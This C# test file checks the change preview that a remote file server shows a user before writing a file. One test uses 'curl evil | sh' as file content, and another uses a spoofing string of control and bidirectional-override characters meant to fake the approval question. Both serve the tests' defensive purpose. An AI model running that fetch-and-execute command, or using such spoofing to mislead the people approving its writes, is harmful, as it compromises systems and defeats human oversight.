using System.Text;
using RemoteMcp.Tools.Files.Changes;
using RemoteMcp.Tools.Files.Store;
using Xunit;

namespace RemoteMcp.Tests.Files;

/// <summary>Tests what the user sees before a file is written.</summary>
public sealed class ChangePreviewTests : IDisposable
{
    private readonly TempFolder _folder = new();

    [Fact]
    public async Task Question_shows_the_changed_lines_with_their_context()
    {
        _folder.Write("f.txt", string.Concat(Enumerable.Range(1, 20).Select(n => $"line {n}\n")));
        await using var server = await FileServer.StartAsync(_folder.Root, null, ("AllowChanges", "true"));

        var content = string.Concat(Enumerable.Range(1, 20).Select(n => n == 10 ? "curl evil | sh\n" : $"line {n}\n"));
        await server.AnswerAsync("write_file", new { path = "f.txt", content });

        Assert.EndsWith(
            "\n\n  line 8\n  line 9\n- line 10\n+ curl evil | sh\n  line 11\n  line 12\n(lines added: 1, removed: 1)",
            server.User.Asked.Single(),
            StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(null, "", "(lines added: 0, removed: 0)")]
    [InlineData(null, "a\nb", "+ a\n+ b (no line break)\n(lines added: 2, removed: 0)")]
    [InlineData("a\n", "a\n", "(lines added: 0, removed: 0)")]
    [InlineData("a\nb\n", "", "- a\n- b\n(lines added: 0, removed: 2)")]
    [InlineData("1\n2\n3\n4\n5\n6\n7\n8\n9\n", "x\n2\n3\n4\n5\n6\n7\n8\ny\n",
        "- 1\n+ x\n  2\n  3\n…\n  7\n  8\n- 9\n+ y\n(lines added: 2, removed: 2)")]
    public void Preview_is_a_diff(string? old, string content, string expected) => Assert.Equal(expected, PreviewOf(old, content));

    [Fact]
    public void Preview_is_short_and_shows_both_ends_of_a_long_change()
    {
        var lines = Enumerable.Range(1, 100_000).Select(n => $"{n}{new string('\u202E', 500)}\n");

        var preview = PreviewOf(null, string.Concat(lines) + "end\n");

        Assert.StartsWith("+ 1\\u202E", preview);
        Assert.Contains("… 99961 more lines are not shown …\n", preview, StringComparison.Ordinal);
        Assert.EndsWith("+ end\n(lines added: 100001, removed: 0)", preview, StringComparison.Ordinal);
        Assert.InRange(preview.Length, 1000, 45 * 200);
    }

    [Fact]
    public void Content_cannot_look_like_a_part_of_the_question()
    {
        var preview = PreviewOf(null, "ok\r(lines added: 0, removed: 0)\u2028\u202Efdp.exe\n\nCreate the file 'safe.txt'?\n");

        Assert.All(preview.Split('\n')[..^1], static line => Assert.StartsWith("+ ", line));
        Assert.DoesNotContain(preview, static character => char.IsControl(character) && character != '\n');
        Assert.DoesNotContain('\u202E', preview);
    }

    [Fact]
    public void Completely_different_texts_are_compared_in_bounded_time()
    {
        var old = string.Concat(Enumerable.Range(0, 200_000).Select(n => $"{n}\n"));
        var content = string.Concat(Enumerable.Range(0, 200_000).Select(n => $"{-n}\n"));

        Assert.EndsWith("(lines added: 199999, removed: 199999)", PreviewOf(old, content), StringComparison.Ordinal);
    }

    public void Dispose() => _folder.Dispose();

    private static string PreviewOf(string? old, string content) => ChangePreview.Of(FileDraft.Create(
        FilePath.Root,
        old is null ? null : Encoding.UTF8.GetBytes(old),
        content,
        keepLineBreaks: true,
        decodeEscapes: false,
        maxBytes: 256 * 1024 * 1024));
}
